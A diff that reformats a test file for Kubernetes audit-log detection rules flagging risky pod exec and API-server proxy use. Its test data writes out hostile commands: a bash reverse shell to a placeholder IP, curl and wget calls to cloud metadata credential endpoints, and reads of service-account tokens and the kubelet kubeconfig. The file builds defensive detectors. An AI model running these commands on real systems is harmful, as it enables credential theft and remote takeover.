@@ -49,7 +49,11 @@ describe('exec.pod-exec', () => {
     ['IRSA web identity token', ['cat', '/var/run/secrets/eks.amazonaws.com/serviceaccount/token'], 'reads service account token'],
     ['instance metadata (IPv4)', ['curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'], 'reaches cloud metadata'],
     ['instance metadata (IPv6)', ['wget', '-qO-', 'http://[fd00:ec2::254]/latest/api/token'], 'reaches cloud metadata'],
-    ['EKS Pod Identity agent', ['sh', '-c', 'curl -H "Authorization: $(cat $AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE)" http://169.254.170.23/v1/credentials'], 'reaches cloud metadata'],
+    [
+      'EKS Pod Identity agent',
+      ['sh', '-c', 'curl -H "Authorization: $(cat $AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE)" http://169.254.170.23/v1/credentials'],
+      'reaches cloud metadata',
+    ],
     ['a reverse shell', ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'], 'downloads or opens a network connection'],
     ['the kubelet kubeconfig', ['cat', '/var/lib/kubelet/kubeconfig'], 'reads credential files'],
   ])('rates %s high', (_what, command, reason) => {
@@ -79,7 +83,11 @@ describe('exec.pod-exec', () => {
     expect(attach).toMatchObject({ severity: 'medium', summary: 'alice@example.com attached to container web of pod shop/web-7d9f8c6b5-x2lqp with input' });
     expect(severityOf(podExecRule, stream('attach', 'container=web&stdout=true'))).toBe('low');
     const forward = hitsOf(podExecRule, stream('portforward', 'ports=5432', { verb: 'get' }))[0];
-    expect(forward).toMatchObject({ severity: 'low', summary: 'alice@example.com forwarded port 5432 of pod shop/web-7d9f8c6b5-x2lqp', evidence: { ports: ['5432'] } });
+    expect(forward).toMatchObject({
+      severity: 'low',
+      summary: 'alice@example.com forwarded port 5432 of pod shop/web-7d9f8c6b5-x2lqp',
+      evidence: { ports: ['5432'] },
+    });
     expect(severityOf(podExecRule, stream('portforward', 'ports=10250', { namespace: 'kube-system' }))).toBe('medium');
   });
 
@@ -93,11 +101,17 @@ describe('exec.pod-exec', () => {
 
   it('says when the command is not logged instead of staying silent', () => {
     const event = stream('exec', '');
-    expect(hitsOf(podExecRule, event)[0]).toMatchObject({ severity: 'low', summary: 'alice@example.com ran a command (not logged) in pod shop/web-7d9f8c6b5-x2lqp', evidence: { command: 'not logged' } });
+    expect(hitsOf(podExecRule, event)[0]).toMatchObject({
+      severity: 'low',
+      summary: 'alice@example.com ran a command (not logged) in pod shop/web-7d9f8c6b5-x2lqp',
+      evidence: { command: 'not logged' },
+    });
   });
 
   it('reads a PodExecOptions body when the URI has no command', () => {
-    const event = stream('exec', '', { requestObject: { kind: 'PodExecOptions', command: ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], container: 'app' } });
+    const event = stream('exec', '', {
+      requestObject: { kind: 'PodExecOptions', command: ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], container: 'app' },
+    });
     expect(hitsOf(podExecRule, event)[0]).toMatchObject({ severity: 'high', evidence: { container: 'app' } });
   });
 
@@ -111,7 +125,10 @@ describe('exec.pod-exec', () => {
   });
 
   it('ignores reads of the pod and its logs, which are not streams into it', () => {
-    const log = auditEvent({ requestURI: '/api/v1/namespaces/shop/pods/web/log?container=web', objectRef: { resource: 'pods', subresource: 'log', namespace: 'shop', name: 'web', apiVersion: 'v1' } });
+    const log = auditEvent({
+      requestURI: '/api/v1/namespaces/shop/pods/web/log?container=web',
+      objectRef: { resource: 'pods', subresource: 'log', namespace: 'shop', name: 'web', apiVersion: 'v1' },
+    });
     expect(hitsOf(podExecRule, auditEvent())).toEqual([]);
     expect(hitsOf(podExecRule, log)).toEqual([]);
     expect(reaches(podExecRule, log)).toBe(false);
@@ -128,7 +145,12 @@ describe('exec.pod-exec', () => {
     const complete = { ...started, stage: 'ResponseComplete', stageTimestamp: '2026-11-20T10:05:00.000000Z' };
     const findings = await findingsOf([podExecRule], [started, complete]);
     expect(findings).toHaveLength(1);
-    expect(findings[0]).toMatchObject({ ruleId: 'exec.pod-exec', category: 'exec', verb: 'get', target: { resource: 'pods', subresource: 'exec', namespace: 'db', name: 'postgres-0' } });
+    expect(findings[0]).toMatchObject({
+      ruleId: 'exec.pod-exec',
+      category: 'exec',
+      verb: 'get',
+      target: { resource: 'pods', subresource: 'exec', namespace: 'db', name: 'postgres-0' },
+    });
   });
 });
 
@@ -168,7 +190,9 @@ describe('exec.apiserver-proxy', () => {
   });
 
   it('catches exec through nodes/proxy with the get verb (websocket), also from a service account', () => {
-    const event = proxy('nodes', 'node-1', '/exec/shop/web-0/web?command=sh&command=-c&command=id&output=1', { user: users.serviceAccount('monitoring', 'scraper') });
+    const event = proxy('nodes', 'node-1', '/exec/shop/web-0/web?command=sh&command=-c&command=id&output=1', {
+      user: users.serviceAccount('monitoring', 'scraper'),
+    });
     expect(severityOf(apiserverProxyRule, event)).toBe('high');
     expect(reaches(apiserverProxyRule, event)).toBe(true);
   });
@@ -197,7 +221,10 @@ describe('exec.apiserver-proxy', () => {
   });
 
   it('leaves nodes/stats and nodes/metrics (not the proxy) alone', () => {
-    const stats = auditEvent({ requestURI: '/api/v1/nodes/node-1/stats', objectRef: { resource: 'nodes', subresource: 'stats', name: 'node-1', apiVersion: 'v1' } });
+    const stats = auditEvent({
+      requestURI: '/api/v1/nodes/node-1/stats',
+      objectRef: { resource: 'nodes', subresource: 'stats', name: 'node-1', apiVersion: 'v1' },
+    });
     expect(reaches(apiserverProxyRule, stats)).toBe(false);
     expect(hitsOf(apiserverProxyRule, stats)).toEqual([]);
   });
